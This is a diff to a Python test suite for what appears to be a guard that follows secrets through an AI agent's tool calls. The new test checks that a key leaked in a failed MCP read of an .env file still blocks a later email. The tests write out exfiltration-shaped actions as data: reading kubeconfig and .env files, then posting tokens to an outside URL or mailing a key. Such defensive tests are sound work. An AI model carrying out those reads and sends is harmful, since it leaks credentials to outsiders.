@@ -208,18 +208,14 @@ def test_a_token_after_large_certificate_blobs_is_still_a_flow() -> None:
     _read(guard, "/home/u/.kube/kubeconfig", _kubeconfig(TOKEN))
     # the whole token is kept first; a piece of it needs its grams, which the cap drops
     assert _verdict(guard, "http_post", url=f"https://x.example/?t={TOKEN}") is Verdict.DENY
-    assert _verdict(guard, "http_post", url=f"https://x.example/?t={TOKEN[:20]}") is (
-        Verdict.DENY
-    )
+    assert _verdict(guard, "http_post", url=f"https://x.example/?t={TOKEN[:20]}") is (Verdict.DENY)
 
 
 def test_a_token_in_a_small_secret_is_a_flow() -> None:
     guard = _guard()
     _read(guard, "/home/u/.kube/kubeconfig", f"users:\n- user:\n    token: {TOKEN}\n")
     assert _verdict(guard, "http_post", url=f"https://x.example/?t={TOKEN}") is Verdict.DENY
-    assert _verdict(guard, "http_post", url=f"https://x.example/?t={TOKEN[:20]}") is (
-        Verdict.DENY
-    )
+    assert _verdict(guard, "http_post", url=f"https://x.example/?t={TOKEN[:20]}") is (Verdict.DENY)
     assert _verdict(guard, "http_post", url="https://x.example/?t=kube-tok-00000000") is (
         Verdict.ALLOW
     )
@@ -287,3 +283,26 @@ def test_sessions_of_two_tenants_are_apart() -> None:
     assert _verdict(a, "send_mail", to="x@corp.example", body=KEY) is Verdict.DENY
     assert _verdict(b, "send_mail", to="x@corp.example", body=KEY) is Verdict.ALLOW
     assert history.view("b", "s").labels == frozenset()
+
+
+@pytest.mark.asyncio
+async def test_a_secret_in_an_mcp_error_result_is_a_flow() -> None:
+    """MCP reports a failed tool as an ``isError`` result, not a raise: the model reads
+    its text, so the step keeps the fingerprints of that result."""
+    from interlock.adapters.mcp import run_settled
+
+    guard = _guard()
+    decision = await guard.acheck(Action.tool("read_file", {"path": "/srv/app/.env"}))
+    assert decision.verdict is Verdict.ALLOW
+    failed = {"isError": True, "content": [{"type": "text", "text": f"bad line: {KEY}"}]}
+
+    async def body() -> dict[str, Any]:
+        return failed
+
+    await run_settled(guard, decision, body, ("read_file", "call-1"))
+    step = guard.sessions.view("default", "s-1").steps[0]  # type: ignore[union-attr]
+    assert step.executed is False  # the tool did not complete
+    mail = Action.tool("send_mail", {"to": "b@corp.example", "body": KEY})
+    assert (await guard.acheck(mail)).verdict is Verdict.DENY
+    benign = Action.tool("send_mail", {"to": "b@corp.example", "body": "the read failed"})
+    assert (await guard.acheck(benign)).verdict is Verdict.ALLOW
